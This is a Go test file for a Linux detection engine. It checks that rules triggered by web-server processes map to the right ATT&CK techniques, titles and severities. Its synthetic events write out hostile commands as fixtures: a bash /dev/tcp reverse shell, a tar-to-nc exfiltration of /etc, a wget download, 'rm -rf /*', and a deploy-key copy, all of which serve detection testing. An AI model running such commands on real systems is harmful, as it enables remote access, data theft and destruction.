package detect

import (
	"slices"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestPerMatchMeaning: a finding's title, techniques and severity follow
// what matched (the selections, the ancestry, the act's effect), not the
// rule's whole tag list (issue 14 items 3 and 4).
func TestPerMatchMeaning(t *testing.T) {
	type check struct {
		rule     string   // a rule the act must match
		attack   []string // techniques the finding must carry
		noAttack []string // techniques it must not carry
		noTitle  string   // its title must not contain this
		why      string   // its Why must contain this, when set
		maxLevel Severity // its severity at most this, when set
		stage    Stage    // its stage, when set
	}
	cases := []struct {
		name string
		run  func(s *synth, e *Engine) []*Finding
		want check
	}{
		{"sh -c id under the web server", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "id"), s.tree)
		}, check{rule: "web-server-exploitation", attack: []string{"T1059.004", "T1505.003"}, noAttack: []string{"T1071", "T1095", "T1105", "T1552.001"}}},
		{"download under the web server", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "wget -q http://198.51.100.7/x -O /tmp/x"), s.tree)
		}, check{rule: "web-server-exploitation", attack: []string{"T1105"}, noAttack: []string{"T1095", "T1552.001"}}},
		{"id run in a web shell", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/id", "id"), s.tree)
		}, check{rule: "discovery-by-web-user", attack: []string{"T1033"}, noAttack: []string{"T1057", "T1082", "T1087.001"}}},
		{"readelf, installed under its target triplet, run in a web shell", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/x86_64-linux-gnu-readelf", "readelf", "-d", "/opt/app/bin/job"), s.tree)
		}, check{rule: "discovery-by-web-user", attack: []string{"T1518"}, noAttack: []string{"T1033", "T1057"}}},
		{"ldd, a shell script, run in a web shell", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/bash", "/bin/bash", "/usr/bin/ldd", "/opt/app/bin/job"), s.tree)
		}, check{rule: "discovery-by-web-user", attack: []string{"T1518"}, noAttack: []string{"T1033", "T1057"}}},
		{"a command inside a reverse shell", func(s *synth, e *Engine) []*Finding {
			s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "python3 /var/www/html/x.py")
			s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "/var/www/html/x.py")
			e.Observe(s.connect(202, 201, 33, "/usr/bin/python3.11", "203.0.113.9", 443), s.tree)
			s.exec(203, 202, 33, "www-data", "/var/www", "/usr/bin/bash", "/bin/bash", "-i")
			return e.Observe(s.exec(204, 203, 33, "www-data", "/var/www", "/usr/bin/tar", "tar", "xf", "x.tar"), s.tree)
		}, check{rule: "reverse-shell-channel-command", attack: []string{"T1059.004"}, noAttack: []string{"T1071"}}},
		{"ssh from the web account", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/ssh", "ssh", "-i", "/tmp/.k", "deploy@10.0.0.5"), s.tree)
		}, check{rule: "lateral-remote-access-from-web", attack: []string{"T1021.004"}, noAttack: []string{"T1609"}}},
		{"crontab spool write", func(s *synth, e *Engine) []*Finding {
			s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/crontab", "crontab", "-")
			return e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/crontab", "/var/spool/cron/crontabs/www-data", true), s.tree)
		}, check{rule: "web-persistence-file-write", attack: []string{"T1053.003"}, noAttack: []string{"T1037.004", "T1543.002", "T1574.006", "T1098.004"}}},
		{"shred by the web account", func(s *synth, e *Engine) []*Finding {
			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/shred", "shred", "-u", "/var/www/html/data/customers.csv"), s.tree)
		}, check{rule: "data-destruction", attack: []string{"T1485"}, noAttack: []string{"T1486"}}},
		{"a beacon started by cron", func(s *synth, e *Engine) []*Finding {
			s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
			s.exec(301, 300, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/CRON", "-f")
			return e.Observe(s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"), s.tree)
		}, check{rule: "web-server-reverse-shell", noTitle: "Web Server", why: "cron"}},
		{"a health probe's curl under cron", func(s *synth, e *Engine) []*Finding {
			s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
			s.exec(301, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "curl -s -o /dev/null -m 5 http://127.0.0.1:3100/")
			return e.Observe(s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-s", "-o", "/dev/null", "-m", "5", "http://127.0.0.1:3100/"), s.tree)
		}, check{rule: "ingress-tool-download", noAttack: []string{"T1105"}, noTitle: "Download", maxLevel: SeverityLow}},
		{"rm -rf of the chain's own files", func(s *synth, e *Engine) []*Finding {
			// a tool dropped in a folder of its own, and a web shell
			s.exec(201, 200, 33, "www-data", "/var/www/html/uploads", "/usr/bin/dash", "sh", "-c", "mkdir .t; cp /var/www/html/backup/deploy_key .t/k")
			e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/cp", "/var/www/html/uploads/.t/k", true), s.tree)
			e.Observe(s.file(parser.KindFileWrite, 200, 1, 33, "/usr/sbin/apache2", "/var/www/html/uploads/avatar.php", true), s.tree)
			return e.Observe(s.exec(203, 200, 33, "www-data", "/var/www/html/uploads", "/usr/bin/rm", "rm", "-rf", ".t", "/var/www/html/uploads/avatar.php"), s.tree)
		}, check{rule: "data-destruction", attack: []string{"T1070.004"}, noAttack: []string{"T1485", "T1486"}, noTitle: "Destruction"}},
		{"rm -rf of the victim's files", func(s *synth, e *Engine) []*Finding {
			e.Observe(s.file(parser.KindFileWrite, 200, 1, 33, "/usr/sbin/apache2", "/var/www/html/uploads/avatar.php", true), s.tree)
			return e.Observe(s.exec(203, 200, 33, "www-data", "/var/www/html", "/usr/bin/rm", "rm", "-rf", "/var/www/html/data", "/var/www/html/uploads/avatar.php"), s.tree)
		}, check{rule: "data-destruction", attack: []string{"T1485"}, noAttack: []string{"T1486", "T1070.004"}}},
		{"nc fed from an archive", func(s *synth, e *Engine) []*Finding {
			s.exec(201, 200, 33, "www-data", "/tmp", "/usr/bin/dash", "sh", "-c", "tar czf - /etc | nc 203.0.113.9 443")
			s.exec(202, 201, 33, "www-data", "/tmp", "/usr/bin/nc.traditional", "nc", "203.0.113.9", "443")
			return e.Observe(s.connect(202, 201, 33, "/usr/bin/nc.traditional", "203.0.113.9", 443), s.tree)
		}, check{rule: "web-reverse-shell-connect", attack: []string{"T1048"}, noTitle: "Reverse Shell", stage: StageExfiltrationImpact, why: "data goes out"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e, err := New(Options{})
			if err != nil {
				t.Fatal(err)
			}
			s := newSynth()
			s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
			fs := tc.run(s, e)
			f := has(fs, tc.want.rule)
			if f == nil {
				t.Fatalf("no %s finding: %v", tc.want.rule, ids(fs))
			}
			for _, a := range tc.want.attack {
				if !slices.Contains(f.Attack, a) {
					t.Errorf("attack %v lacks %s", f.Attack, a)
				}
			}
			for _, a := range tc.want.noAttack {
				if slices.Contains(f.Attack, a) {
					t.Errorf("attack %v has %s, which did not match", f.Attack, a)
				}
			}
			if tc.want.noTitle != "" && strings.Contains(f.Title, tc.want.noTitle) {
				t.Errorf("title %q says %q", f.Title, tc.want.noTitle)
			}
			if !strings.Contains(f.Why, tc.want.why) {
				t.Errorf("why %q, want it to say %q", f.Why, tc.want.why)
			}
			if tc.want.maxLevel != 0 && f.Severity > tc.want.maxLevel {
				t.Errorf("severity %v, want at most %v", f.Severity, tc.want.maxLevel)
			}
			if tc.want.stage != 0 && f.Stage != tc.want.stage {
				t.Errorf("stage %v, want %v", f.Stage, tc.want.stage)
			}
		})
	}
}

// TestDestructionNotAnyRoot: a Sigma value " /*" is a wildcard, so the
// data-destruction rule took any rm -rf of an absolute path.
func TestDestructionNotAnyRoot(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	fs := e.Observe(s.exec(201, 200, 33, "www-data", "/tmp", "/usr/bin/rm", "rm", "-rf", "/tmp/sess_cache"), s.tree)
	if f := has(fs, "data-destruction"); f != nil {
		t.Errorf("rm -rf /tmp/sess_cache: %v", ids(fs))
	}
	fs = e.Observe(s.exec(202, 200, 33, "www-data", "/tmp", "/usr/bin/rm", "rm", "-rf", "/*"), s.tree)
	if f := has(fs, "data-destruction"); f == nil {
		t.Errorf("rm -rf /*: %v, want data-destruction", ids(fs))
	}
}

// TestMeaningsMatchTags: a built-in rule that maps techniques per match
// lists in its tags exactly the techniques its matches can report, so
// `auditchain rules` and the findings agree.
func TestMeaningsMatchTags(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range e.Rules() {
		if !r.perMatch {
			continue
		}
		can := slices.Clone(r.baseAttack)
		for _, m := range r.meanings {
			can = append(can, m.attack...)
		}
		slices.Sort(can)
		can = slices.Compact(can)
		tags := slices.Sorted(slices.Values(r.Attack))
		if !slices.Equal(can, tags) {
			t.Errorf("%s: matches can report %v, tags say %v", r.ID, can, tags)
		}
	}
}

// TestMeaningRejected: an entry naming a search the detection lacks would
// never apply; the rule is skipped with the reason.
func TestMeaningRejected(t *testing.T) {
	src := `title: T
id: t
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: /id}
  condition: sel
auditchain:
  matches:
    - selection: sle
      attack: [T1033]
`
	var ft fieldTable
	rs := parseRuleFile("t.yml", []byte(src), &ft)
	if len(rs) != 1 || rs[0].Runnable || !strings.Contains(rs[0].SkipReason(), `"sle"`) {
		t.Errorf("rule with a misspelt selection: runnable %v, reason %q", rs[0].Runnable, rs[0].SkipReason())
	}
}

// TestUnprivilegedRejected: auditchain.unprivileged re-places only a
// fixed stage (the context places the others) and must say why.
func TestUnprivilegedRejected(t *testing.T) {
	head := `title: T
id: t
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: /cp}
  condition: sel
auditchain:
  stage: 5
`
	for _, c := range []struct{ custom, want string }{
		{"  unprivileged: {stage: 4, why: w}\n", "placement: fixed"},
		{"  placement: fixed\n  unprivileged: {stage: 4}\n", "why"},
		{"  placement: fixed\n  unprivileged: {stage: 9, why: w}\n", "stage"},
		{"  placement: fixed\n  unprivileged: {stage: 4, attack: [t1574], why: w}\n", "technique"},
	} {
		var ft fieldTable
		rs := parseRuleFile("t.yml", []byte(head+c.custom), &ft)
		if len(rs) != 1 || rs[0].Runnable || !strings.Contains(rs[0].SkipReason(), c.want) {
			t.Errorf("%q: runnable %v, reason %q; want skipped for %q", c.custom, rs[0].Runnable, rs[0].SkipReason(), c.want)
		}
	}
}

// TestScriptWriteShowsWritten: a script the web server writes where the
// site serves it needs its chain's corroboration (timeline/corroborate.go)
// and says what it shows alone; a script written by a shell that also
// fetches is still judged on its own.
func TestScriptWriteShowsWritten(t *testing.T) {
	e, s := webShellScene(t)
	f := findingOf(e.Observe(s.file(parser.KindFileWrite, 200, 1, 33, "/usr/sbin/php-fpm8.2", "/var/www/html/conf.local.php", true), s.tree), "webroot-script-write")
	if f == nil {
		t.Fatal("webroot-script-write did not fire")
	}
	if !f.NeedsCorroboration || f.Shows != ShowsWritten || f.Stage != StageWebshellUpload {
		t.Errorf("NeedsCorroboration %v, Shows %q, stage %v; want true, %q, web shell upload", f.NeedsCorroboration, f.Shows, f.Stage, ShowsWritten)
	}
	for _, c := range []struct {
		weak   weakKinds
		intent bool
		want   Shows
	}{
		{weak: weakWritten, want: ShowsWritten},
		{weak: weakWritten, intent: true, want: ""},
		{weak: weakWritten | weakDiscovery, want: ShowsStaging},
		{weak: weakDiscovery, want: ShowsDiscovery},
		{weak: weakStaging, want: ShowsStaging},
		{weak: weakTransfer, want: ShowsTransfer},
		{weak: weakTransfer | weakStaging, want: ShowsStaging},
		{weak: weakCollection, want: ShowsCollection},
		{want: ""},
	} {
		if got := weakness(c.weak, c.intent); got != c.want {
			t.Errorf("weakness(%b, %v) = %q, want %q", c.weak, c.intent, got, c.want)
		}
	}
}

// TestWhySaysWhatMatched: the headline rule's why says what its patterns
// saw in this command, so that its general words ("a pattern of
// post-exploitation") are not read as all of them.
func TestWhySaysWhatMatched(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
		not  string
	}{
		{[]string{"sh", "-c", "groff -Tps /tmp/inv-1011.tr"}, "In this command: a temporary path.", "download"},
		{[]string{"sh", "-c", "curl -s http://203.0.113.9/x -o /var/www/html/x"}, "a download", "temporary path"},
	} {
		f := findingOf(execAs(t, 33, "/var/www", "/usr/bin/dash", c.args...), "web-server-exploitation")
		if f == nil {
			t.Fatalf("%q: no web-server-exploitation", c.args)
		}
		if !strings.Contains(f.Why, c.want) || strings.Contains(f.Why, "In this command:") && strings.Contains(f.Why[strings.Index(f.Why, "In this command:"):], c.not) {
			t.Errorf("%q: why %q, want %q and not %q", c.args, f.Why, c.want, c.not)
		}
	}
}

// TestTempPathIsTheSystems: a temporary path is one that starts in a
// system temp directory (/tmp, /var/tmp, /dev/shm), wherever it stands in
// the command (quoted, after =, after curl's @); a web root's own tmp/
// folder, where the shop's uploads wait for their converter, is none.
func TestTempPathIsTheSystems(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		temp bool
	}{
		{"/usr/bin/convert '/var/www/html/media/tmp/mug 1.jpg.c9f7.part' -strip '/var/www/html/img/products/MUG-1.jpg' 2>&1", false},
		{"/usr/bin/convert '/tmp/mug 1.jpg.c9f7.part' -strip /var/www/html/img/products/MUG-1.jpg 2>&1", true},
		{"curl -s -X POST -d @/tmp/hook-5202.json http://127.0.0.1:9200/hooks", true},
		{"gs -sOutputFile=/var/tmp/inv.pdf in.ps", true},
		{"cd /dev/shm; ls", true},
		{"ls /var/www/app/tmp/cache", false},
	} {
		f := findingOf(execAs(t, 33, "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), "web-server-exploitation")
		got := f != nil && strings.Contains(f.Why, "a temporary path")
		if got != c.temp {
			why := ""
			if f != nil {
				why = f.Why
			}
			t.Errorf("%q: a temporary path %v, want %v (%s)", c.cmd, got, c.temp, why)
		}
	}
}
